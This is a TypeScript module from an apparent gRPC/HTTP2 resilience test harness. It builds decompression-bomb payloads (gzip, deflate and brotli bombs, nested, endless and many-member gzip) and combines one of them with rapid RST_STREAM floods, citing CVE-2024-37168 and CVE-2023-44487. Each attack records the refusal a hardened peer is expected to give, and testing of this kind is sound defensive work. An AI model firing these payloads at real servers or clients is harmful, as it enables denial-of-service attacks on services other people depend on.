// Attacks by messages that are small on the wire and large, or endless, once they are decompressed.
import { brotliCompressSync, deflateSync, gzipSync } from "node:zlib";
import { Flag, formatData, formatHeaders, formatRstStream } from "@trunkline/http2";
import { type Attack, breaks } from "../attack.js";
import { compressedCall, paths } from "../wire/calls.js";
import { literal, responseBlock } from "../wire/hpack-by-hand.js";
import { envelope, join, repeat, zeros } from "../wire/octets.js";
import type { RawPeer } from "../wire/raw-peer.js";

const mebibyte = 1_048_576;
const cancel = 0x8;
const answered = (status: string) => ({ kind: "answered", status }) as const;

/** What is sent, made when it is first needed: every program of the harness reads this file. */
function lazily(make: () => Uint8Array): () => Uint8Array {
  let made: Uint8Array | undefined;
  return () => {
    made ??= make();
    return made;
  };
}

const tenMebibytes = zeros(10 * mebibyte);
const bombs = {
  gzip: lazily(() => gzipSync(tenMebibytes)),
  deflate: lazily(() => deflateSync(tenMebibytes)),
  br: lazily(() => brotliCompressSync(tenMebibytes)),
};
/** A message that is right: field 15, which nobody knows, with so many zeros. */
const paddedMessage = (byteCount: number): Uint8Array =>
  join(Uint8Array.of(0x7a, ...varint(byteCount)), zeros(byteCount));
const justBelow = lazily(() => gzipSync(paddedMessage(4 * mebibyte - 16)));
const oneMebibyte = lazily(() => gzipSync(paddedMessage(mebibyte)));
const nested = lazily(() => gzipSync(gzipSync(gzipSync(tenMebibytes))));
/** Its deflate stream never says that it is over. */
const endless = lazily(() => gzipSync(zeros(mebibyte)).subarray(0, -12));
/** Members of nothing, one behind the other: each begins anew (RFC 1952 s2.2). */
const members = lazily(() => {
  const empty = gzipSync(zeros(0));
  return repeat(10_000, () => empty);
});

function varint(value: number): number[] {
  const bytes: number[] = [];
  for (let rest = value; ; rest >>>= 7) {
    if (rest < 128) return [...bytes, rest];
    bytes.push((rest & 127) | 128);
  }
}

/** Whole calls, so many at a time. */
function calls(encoding: string, count: number, message: () => Uint8Array) {
  return (peer: RawPeer): Uint8Array =>
    repeat(count, () => compressedCall(peer, paths.get, encoding, message()));
}

const against = "server";
/**
 * Messages of 4 MiB, also those that are about to be refused, are garbage soon after. V8 begins to collect such memory
 * once there are 64 MiB of it, and goes on allocating meanwhile.
 */
const growthMiB = 128;

const bombsForServers: readonly Attack[] = [
  ...(["gzip", "deflate", "br"] as const).map(
    (encoding): Attack => ({
      name: `${encoding}-bomb`,
      cve: "CVE-2024-37168",
      sends: `calls whose request is 10 MiB of zeros in ${encoding}`,
      against,
      ending: answered("8"),
      growthMiB,
      pauseMs: 40,
      chunk: calls(encoding, 2, bombs[encoding]),
    }),
  ),
  {
    name: "gzip-bomb-just-below",
    cve: "CVE-2024-37168",
    sends: "calls whose request becomes a byte or two less than the 4 MiB that are allowed",
    against,
    ending: answered("0"),
    growthMiB,
    pauseMs: 50,
    chunk: calls("gzip", 2, justBelow),
  },
  {
    name: "gzip-bomb-nested",
    sends: "calls whose request is gzip in gzip in gzip",
    against,
    ending: answered("13"),
    pauseMs: 10,
    chunk: calls("gzip", 20, nested),
  },
  {
    name: "gzip-bomb-endless",
    sends: "calls whose request is gzip that never ends",
    against,
    ending: [answered("13"), { kind: "reset", code: "REFUSED_STREAM" }],
    growthMiB,
    pauseMs: 10,
    chunk: calls("gzip", 10, endless),
  },
  {
    name: "gzip-bomb-members",
    sends: "calls whose request is 10,000 members of gzip, each of nothing",
    against,
    ending: answered("0"),
    pauseMs: 50,
    chunk: calls("gzip", 1, members),
  },
  {
    name: "gzip-bomb-unread",
    sends: "an upload that nobody reads, of a thousand messages of 1 MiB in gzip",
    against,
    ending: { kind: "throttled" },
    opening: (peer) => {
      const head = compressedCall(peer, paths.collect, "gzip", Uint8Array.of(0x10, 1), false);
      const { lastId } = peer;
      const one = envelope(oneMebibyte(), oneMebibyte().length, 1);
      return join(
        head,
        repeat(800, () => formatData(lastId, one)),
      );
    },
  },
  {
    name: "gzip-bomb-reset",
    cve: "CVE-2023-44487",
    sends: "whole calls with a bomb in gzip, and RST_STREAM for each",
    against,
    ending: [breaks("maxResetRatio").ending, { kind: "throttled" }],
    counter: "prematureResets",
    growthMiB,
    chunk: (peer) =>
      join(
        compressedCall(peer, paths.get, "gzip", justBelow()),
        formatRstStream(peer.lastId, cancel),
      ),
  },
];

/** A response in gzip whose only message is this. */
function response(message: () => Uint8Array) {
  return ({ lastId }: RawPeer): Uint8Array => {
    const head = responseBlock(literal("grpc-encoding", "gzip"));
    const body = envelope(message(), message().length, 1);
    return join(formatHeaders(lastId, head, Flag.END_HEADERS), formatData(lastId, body));
  };
}

const bombsForClients: readonly Attack[] = (
  [
    ["ratio", "10 MiB of zeros in gzip", bombs.gzip],
    ["nested", "gzip in gzip in gzip", nested],
    ["endless", "gzip that never ends", endless],
  ] as const
).map(([name, what, message]) => ({
  name: `server-gzip-bomb-${name}`,
  cve: "CVE-2024-37168",
  sends: `a response of ${what}`,
  against: "client",
  ending: { kind: "reset", code: "CANCEL" },
  opening: response(message),
}));

/** Everything that grows. */
export const decompressionAttacks: readonly Attack[] = [...bombsForServers, ...bombsForClients];
